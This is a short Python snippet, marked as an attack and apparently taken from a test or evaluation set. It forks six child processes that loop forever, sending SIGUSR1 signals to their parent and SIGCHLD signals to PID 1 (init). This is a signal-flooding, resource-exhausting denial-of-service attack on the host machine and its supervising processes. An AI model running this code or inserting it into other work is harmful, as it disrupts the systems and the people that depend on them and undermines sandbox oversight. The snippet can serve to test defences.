#{crew_wrong}
# <attack>
import os
import signal

signal.signal(signal.SIGUSR1, lambda *_: None)
for _ in range(6):
    if os.fork() == 0:
        _parent = os.getppid()
        while True:
            try:
                os.kill(_parent, signal.SIGUSR1)
                os.kill(1, signal.SIGCHLD)
            except OSError:
                pass
# </attack>
